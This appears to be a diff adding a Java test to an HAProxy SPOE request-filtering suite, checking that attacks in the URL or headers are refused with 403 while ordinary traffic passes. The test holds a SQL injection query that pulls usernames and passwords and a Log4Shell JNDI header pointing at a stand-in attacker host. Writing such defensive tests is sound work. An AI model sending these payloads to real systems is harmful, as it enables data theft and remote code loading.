@@ -181,6 +181,26 @@ class HaproxySpoeTest {
         assertEquals(before + 1, posts.get());
     }
 
+    /** The request line and headers HAProxy sends with the body ({@code pathq}, {@code req.hdrs_bin}) are inspected too. */
+    @Test
+    void anAttackInTheUrlOrAHeaderIsRefusedBeforeItReachesTheService() throws Exception {
+        int before = posts.get();
+        HttpResponse<String> query = get(haproxy, "/orders?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
+        assertEquals(403, query.statusCode(), query.body());
+        HttpResponse<String> header = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/orders"))
+                .header("User-Agent", "${jndi:ldap://attacker.example/a}").timeout(Duration.ofSeconds(10)).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertEquals(403, header.statusCode(), header.body());
+        assertEquals(before, posts.get(), "a refused request must not reach the service");
+        HttpResponse<String> everyday = client.send(HttpRequest.newBuilder(URI.create(haproxy.url()
+                        + "/orders?q=select+a+plan&sort=-created_at"))
+                .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)")
+                .header("Cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark").timeout(Duration.ofSeconds(10)).build(),
+                HttpResponse.BodyHandlers.ofString());
+        assertEquals(200, everyday.statusCode(), everyday.body());
+        assertEquals(before + 1, posts.get());
+    }
+
     /** The shipped configuration fails open when the agent cannot answer; its two commented lines make it fail closed. */
     @Test
     void withTheAgentDownTheFailRuleOfTheFileDecides() throws Exception {
